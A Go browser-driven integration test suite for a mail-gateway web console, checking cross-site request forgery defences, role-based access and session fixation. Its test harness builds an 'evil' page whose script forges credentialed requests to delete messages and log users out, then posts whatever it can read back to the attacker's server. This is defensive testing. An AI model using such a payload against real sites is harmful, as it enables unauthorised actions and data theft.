package integration

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
)

// evilSite is another origin that the browser of somebody who is logged in looks
// at. It is on the same host, so that cookies for the same site go along.
type evilSite struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // what its scripts could read of the console
}

// newEvilSite has a page that sends and reads all it can, once with a token of the
// session, as if that had leaked.
func newEvilSite(t *testing.T, console, id, token string) *evilSite {
	e := &evilSite{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/saw" {
			b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
			e.mu.Lock()
			defer e.mu.Unlock()
			e.seen = append(e.seen, string(b))
			return
		}
		w.Header().Set("Content-Type", "text/html")
		form := url.Values{"id": {id}, "action": {"delete"}, "sure": {"yes"}, "token": {token}}.Encode()
		fmt.Fprintf(w, `<!doctype html><title>evil</title><body><iframe src="%[1]s/queue"></iframe><img src="%[1]s/queue/act?%[2]s"><script src="%[1]s/queue"></script>
<iframe name=f></iframe><form method=post target=f action="%[1]s/queue/act">
<input name=id value="%[3]s"><input name=action value=delete><input name=sure value=yes><input name=token value="%[4]s"></form>
<script>
const saw = t => fetch("/saw", {method: "POST", body: t});
const attempt = p => p.then(r => r.text()).then(t => t && saw(t)).catch(() => {});
document.forms[0].submit();
Promise.all([
	attempt(fetch("%[1]s/quarantine", {credentials: "include"})),
	attempt(fetch("%[1]s/queue/act", {method: "POST", credentials: "include", mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: "%[2]s"})),
	attempt(fetch("%[1]s/api/v1/queue/delete", {method: "POST", credentials: "include", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: JSON.stringify({ids: ["%[3]s"]})})),
	attempt(fetch("%[1]s/api/v1/queue/delete", {method: "POST", credentials: "include", headers: {"X-CSRF-Token": "%[4]s"}, body: JSON.stringify({ids: ["%[3]s"]})})),
	attempt(fetch("%[1]s/api/v1/history/search", {method: "POST", credentials: "include", body: "{}"})),
	attempt(fetch("%[1]s/logout", {method: "POST", credentials: "include", mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: "%[2]s"})),
]).then(() => setTimeout(() => document.title = "done", 200));
</script>`, console, form, id, token)
	}))
	t.Cleanup(e.Close)
	return e
}

// otherSites: what another origin makes the browser send does nothing here, even
// with a token, and it can read nothing (W3).
func otherSites(t *testing.T, s *site, alice *tab) {
	b := alice.other(t)
	b.login("alice")
	id, console := s.ids["deferred"], b.base
	token := eval[string](b, "document.querySelector('[name=token]').value")
	evil := newEvilSite(t, console, id, token)
	b.careless(true) // it does what it must not
	b.load(chromedp.Navigate(evil.URL))
	b.until(`document.title === "done"`)
	b.careless(false)
	evil.mu.Lock()
	for _, text := range evil.seen {
		t.Errorf("the other site read: %.300s", text)
	}
	evil.mu.Unlock()
	b.open("/queue?lane=retry")
	b.shows("For a full mailbox", "alice") // it is there, and so is the session
	// The same from here, so that the above means something.
	said := eval[string](b, fmt.Sprintf(`fetch("/queue/act", {method: "POST", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: "id=%s&action=retry&token=%s"}).then(r => r.text())`, id, token))
	if !strings.Contains(said, "retry: 1 of 1 done") {
		t.Errorf("the own page can't act either: %s", said)
	}
}

// until waits for a condition.
func (b *tab) until(condition string) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, patience)
	defer cancel()
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](condition)); err != nil {
		b.broken(err)
	}
}

// otherPeople: each role sees and does what it may, whatever it asks for (W5).
func otherPeople(t *testing.T, s *site, alice *tab) {
	post := func(b *tab, path string, form url.Values) int {
		form.Set("token", eval[string](b, "document.querySelector('[name=token]').value"))
		return eval[int](b, fmt.Sprintf(`fetch(%q, {method: "POST", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: %q}).then(r => r.status)`, path, form.Encode()))
	}
	henry := alice.other(t)
	henry.loginTo("henry", "/tracking")
	henry.open("/tracking?q=sender.test")
	henry.shows("You have won over there", "Plans for two", "v@other.example")
	henry.hides("Minutes of Monday", "u@example.com", "You have won again")
	henry.open("/message/" + s.ids["second"])
	henry.shows("v@other.example")
	henry.hides("u@example.com")
	henry.open("/quarantine")
	henry.shows("You have won over there")
	henry.hides("You have won again", "hold@example.com")
	for path, want := range map[string]int64{
		"/message/" + s.ids["clean"]: 404, "/message/" + s.ids["spam2"]: 404, "/quarantine/" + s.ids["spam2"]: 404, "/content/" + s.ids["spam2"]: 404,
		"/content/" + s.ids["spam2"] + "/html": 404, "/content/" + s.ids["spam2"] + "/raw": 404,
		"/content/" + s.ids["foreign"]: 200, "/settings": 403, "/audit": 403, "/users": 403, "/reports": 403, "/test": 403, "/filters": 403,
		"/api/v1/queue/" + s.ids["spam2"]: 404, "/api/v1/queue/" + s.ids["spam2"] + "/content": 404, "/api/v1/settings": 403,
	} {
		if code := henry.open(path); code != want {
			t.Errorf("henry, %s: %d, want %d", path, code, want)
		}
	}
	henry.open("/quarantine")
	for _, form := range []url.Values{
		{"id": {s.ids["spam2"]}, "action": {"release"}}, {"id": {s.ids["spam2"]}, "action": {"delete"}, "sure": {"yes"}},
		{"id": {s.ids["foreign"]}, "action": {"release"}, "rcpt": {"u@example.com"}},
	} {
		if code := post(henry, "/quarantine/act", form); code != 400 {
			t.Errorf("henry, %v: %d", form, code)
		}
	}
	if code := post(henry, "/queue/act", url.Values{"id": {s.ids["deferred"]}, "action": {"retry"}}); code != 400 && code != 403 {
		t.Errorf("henry acts on the queue: %d", code)
	}

	vera := alice.other(t)
	vera.login("vera")
	vera.open("/message/" + s.ids["clean"])
	vera.shows("Minutes of Monday")
	vera.hides("X-Evil", "Look at its content")
	for path, want := range map[string]int64{"/content/" + s.ids["spam2"]: 403, "/content/" + s.ids["spam2"] + "/raw": 403, "/audit": 403, "/users": 403} {
		if code := vera.open(path); code != want {
			t.Errorf("vera, %s: %d, want %d", path, code, want)
		}
	}
	vera.open("/quarantine")
	if code := post(vera, "/quarantine/act", url.Values{"id": {s.ids["spam2"]}, "action": {"release"}}); code != 403 {
		t.Errorf("vera releases: %d", code)
	}
	alice.open("/quarantine")
	alice.shows("You have won again", "You have won over there")
}

// fixation: a cookie that somebody planted before the login opens nothing after
// it, and one of before the logout nothing after that (W4).
func fixation(t *testing.T, _ *site, alice *tab) {
	b := alice.other(t)
	b.open("/login")
	const planted = "planted-planted-planted-planted-planted-plan"
	eval[string](b, `document.cookie = "gatepost=`+planted+`; path=/"`)
	b.login("alice")
	mine := b.cookie()
	switch {
	case mine.Value == planted || len(mine.Value) < 40:
		t.Errorf("the cookie is %q after the login", mine.Value)
	case !mine.HTTPOnly || mine.SameSite != network.CookieSameSiteStrict:
		t.Errorf("the cookie is %+v", mine)
	}
	if got := eval[string](b, "document.cookie"); strings.Contains(got, mine.Value) {
		t.Errorf("scripts see the cookie: %q", got)
	}
	b.press(".who button")
	for _, value := range []string{planted, mine.Value} {
		b.do(chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
			_, err := cdp.Call(ctx, target, network.SetCookie, network.SetCookieParams{Name: "gatepost", Value: value, URL: b.base + "/"})
			return err
		}))
		b.open("/quarantine")
		if at := eval[string](b, "location.pathname"); at != "/login" {
			t.Errorf("%.8s… opens %s", value, at)
		}
	}
}

// cookie is the one of the session.
func (b *tab) cookie() (found network.Cookie) {
	b.t.Helper()
	b.do(chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		got, err := cdp.Call(ctx, target, network.GetCookies, network.GetCookiesParams{})
		for _, c := range got.Cookies {
			if c.Name == "gatepost" {
				found = *c
			}
		}
		return err
	}))
	return found
}
